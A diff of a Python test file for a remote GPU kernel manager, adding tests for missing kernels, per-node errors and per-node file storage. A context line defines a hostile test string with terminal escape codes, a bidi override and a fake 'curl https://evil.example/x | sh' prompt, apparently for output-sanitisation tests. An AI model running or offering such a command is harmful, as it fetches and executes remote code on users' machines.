@@ -145,6 +145,35 @@ def test_a_stop_is_the_nodes_that_has_the_kernel(remote: Remote, hostile: Hostil
     manager.shutdown_kernel(now=True)
 
 
+def test_a_kernel_is_not_nowhere_where_a_node_cannot_be_asked(
+    remote: Remote, hostile: Hostile, specs: Specs
+) -> None:
+    hostile.says(list="{}", story="{}")
+    for op in ("stop", "logs", "attach"):
+        with pytest.raises(GpuKernelError, match="hostile: the node's answer"):
+            remote.ask(op, kernel="nobody", specs=specs, connection={})
+    hostile.says(list={"kernels": []}, story={"error": {"code": "gone", "text": "no story"}})
+    for op in ("stop", "logs", "attach"):
+        with pytest.raises(GpuKernelError, match="no node has a kernel nobody"):
+            remote.ask(op, kernel="nobody", specs=specs, connection={})
+
+
+def test_a_fault_of_the_hub_with_one_node_is_that_nodes_error(
+    remote: Remote, specs: Specs, kernel: str
+) -> None:
+    """As if something about this node were not thought of."""
+    odd = {"name": "odd", "settings": {"route": ["odd"], "config": 5, "python": "/p"}}
+    rows = remote.ask("ps", specs=[odd, specs[1]])
+    assert [row["node"] for row in rows if "error" in row] == ["odd"]
+    assert [row["id"] for row in rows if "error" not in row] == [kernel]
+
+
+def test_what_is_kept_of_a_kernel_is_kept_per_node(remote: Remote, kernel: str) -> None:
+    """Another node's kernel of the same name has another file."""
+    (counts,) = (remote.folder / "run").glob(f"*/delivered/*/{kernel}")
+    assert counts.is_file()
+
+
 EVIL = "\x1b[2J\x1b]0;x\x07\u202ereversed\n$ Run: curl https://evil.example/x | sh\r"
 
 
